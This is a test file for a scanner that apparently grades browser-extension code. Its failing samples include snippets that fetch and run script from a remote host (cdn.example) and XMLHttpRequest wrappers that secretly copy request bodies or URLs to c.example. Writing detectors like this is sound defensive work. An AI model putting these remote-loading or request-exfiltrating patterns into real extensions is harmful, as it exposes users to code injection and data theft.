import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

const put =
  "function put(url) { var s = document.createElement('script'); var x = new XMLHttpRequest(); x.open('GET', url, false); x.send(''); s.text = x.responseText; document.head.appendChild(s); }";
const arrow =
  'async function put(file) { const s = document.createElement("script"); s.textContent = await (await fetch(`${base()}${file}`)).text(); document.head.append(s); } put("a.js");';

it.each([
  `function base() { if (window.chrome) { return chrome.extension.getURL(''); } return safari.extension.baseURI; } ${put} var root = base(); put(root + 'all.js');`,
  `const base = () => chrome.runtime.getURL('/'); ${arrow}`,
  `const lies = () => chrome.runtime.getURL(''); const base = function () { return lies(); }; ${arrow}`,
  `const base = () => typeof browser < 'u' && browser.runtime ? browser.runtime.getURL('') : typeof chrome < 'u' ? chrome.runtime.getURL('') : (console.error('none'), null); ${arrow}`,
  `const base = () => chrome.runtime.getURL('lib/'); const get = async (at) => (await fetch(at)).text(); const read = (at) => get(at); (async () => { const root = base(); const s = document.createElement('script'); s.textContent = await read(root + 'a.js'); document.head.append(s); })();`,
  `const get = (at) => fetch(\`\${at}.js\`).then((r) => r.text()); const put = (text) => { const s = document.createElement('script'); s.textContent = text; document.head.append(s); }; get(chrome.runtime.getURL('a')).then(put); get(chrome.runtime.getURL('b')).then(put);`,
  `const at = (file) => chrome.runtime?.getURL ? chrome.runtime.getURL(file) : \`../\${file}\`; (async () => { const said = await (await fetch(at('_locales/' + navigator.language + '/messages.json'))).json(); document.body.innerHTML = said.title.message; })();`,
])('takes a file for the extension’s own where a helper says where that lies: %s', async (content) => {
  expect(await graded({ content })).toMatch(/^A/);
});

it.each([
  `function base(o) { if (o.own) { return chrome.extension.getURL(''); } return 'https://cdn.example/'; } ${put} put(base(window) + 'all.js');`,
  `const base = () => settings.server; ${arrow} let settings = { server: 'https://cdn.example/' };`,
  `const base = () => typeof browser < 'u' && browser.runtime ? browser.runtime.getURL('') : 'https://cdn.example/'; ${arrow}`,
  `const base = () => chrome.runtime.getURL('lib/'); const get = async (at) => (await fetch(at)).text(); const read = (at) => get(at); (async () => { const root = await read('https://cdn.example/at'); const s = document.createElement('script'); s.textContent = await read(root + 'a.js'); document.head.append(s); await read(base() + 'b.js'); })();`,
  `const get = (at) => fetch(\`\${at}.js\`).then((r) => r.text()); const put = (text) => { const s = document.createElement('script'); s.textContent = text; document.head.append(s); }; get(chrome.runtime.getURL('a')).then(put); get('https://cdn.example/b').then(put);`,
  `const get = (at) => fetch(\`\${at}/cdn.example/a.js\`).then((r) => r.text()); const put = (text) => { const s = document.createElement('script'); s.textContent = text; document.head.append(s); }; get('/').then(put);`,
  `const at = (file) => chrome.runtime?.getURL ? chrome.runtime.getURL(file) : \`//\${file}\`; (async () => { const said = await (await fetch(at('x.example/' + navigator.language + '/messages.json'))).json(); document.body.innerHTML = said.title.message; })();`,
])('and not where it may name a server: %s', async (content) => {
  expect(await graded({ content })).toMatch(/^[DF]/);
});

const replacing = (more: string): string =>
  `const tools = { list: [], old: window.XMLHttpRequest, run(text) { return new Function(text)(); } }; window.XMLHttpRequest = function () { const r = new tools.old(); r.addEventListener('load', () => { ${more} }); return r; };`;

it('takes a rule that a script keeps of the page’s requests for no answer of a server', async () => {
  const rule = 'const rule = tools.list.find((one) => r.responseURL.includes(one.at)); tools.run(rule.responseText);';
  expect(await graded({ content: replacing(rule) })).toMatch(/^A/);
});

it.each([
  "const x = new tools.old(); x.open('GET', 'https://cdn.example/a'); x.onload = () => tools.run(x.responseText); x.send();",
  "this.x = new tools.old(); this.x.open('GET', 'https://cdn.example/a'); this.x.onload = () => tools.run(this.x.response); this.x.send();",
  "fetch('https://cdn.example/a').then((answer) => answer.text()).then((text) => tools.run(text));",
])('and what such a script itself asks a server for as one: %s', async (more) => {
  expect(await graded({ content: replacing(more) })).toMatch(/^[DF]/);
});

const wrapper = (inside: string): string =>
  `const old = window.XMLHttpRequest; window.XMLHttpRequest = function () { const xhr = new old(); ${inside} };`;

it.each([
  'this.open = function () { return xhr.open.apply(xhr, arguments); }; this.send = function () { return xhr.send.apply(xhr, arguments); };',
  'this.open = (...args) => { this.asked = args; xhr.open && xhr.open.apply(xhr, args); }; this.send = (...args) => xhr.send(...args);',
  'this.open = (method, url) => xhr.open(method, url); this.send = (body) => xhr.send(body); this.setRequestHeader = (name, value) => xhr.setRequestHeader(name, value);',
])('takes what stands behind the page’s requests for these: %s', async (inside) => {
  expect(await graded({ content: wrapper(inside) })).toBe('A+');
});

it.each([
  "const x = new old(); this.open = (method, url) => xhr.open(method, url); this.send = (body) => { x.open('POST', 'https://c.example/'); x.send(body); xhr.send(body); };",
  "this.open = (method, url) => xhr.open(method, 'https://c.example/?u=' + url); this.send = (body) => xhr.send(body);",
  "this.open = (method, url) => xhr.open(method, url); this.send = (body) => { xhr.send(body); xhr.open('POST', 'https://c.example/'); xhr.send(body); };",
])('and a request of its own beside them as one: %s', async (inside) => {
  expect(await graded({ content: wrapper(inside) })).toMatch(/^[CDF]/);
});

it('ends on a helper whose answer is itself or a file', async () => {
  const content =
    "const where = () => { let at = self.old ? at : chrome.runtime.getURL('a.js'); return at; }; const put = (text) => { const s = document.createElement('script'); s.textContent = text; document.head.append(s); }; fetch(where()).then((r) => r.text()).then(put);";
  expect(await graded({ content })).not.toBe('C');
});

it('ends on a helper that is put into its own variable', async () => {
  const content =
    "let load = async (path) => (await fetch(`${path}.js`)).text(); load = load; const put = (text) => { const s = document.createElement('script'); s.textContent = text; document.head.append(s); }; load(chrome.runtime.getURL('a')).then(put);";
  expect(await graded({ content })).toMatch(/^A/);
});
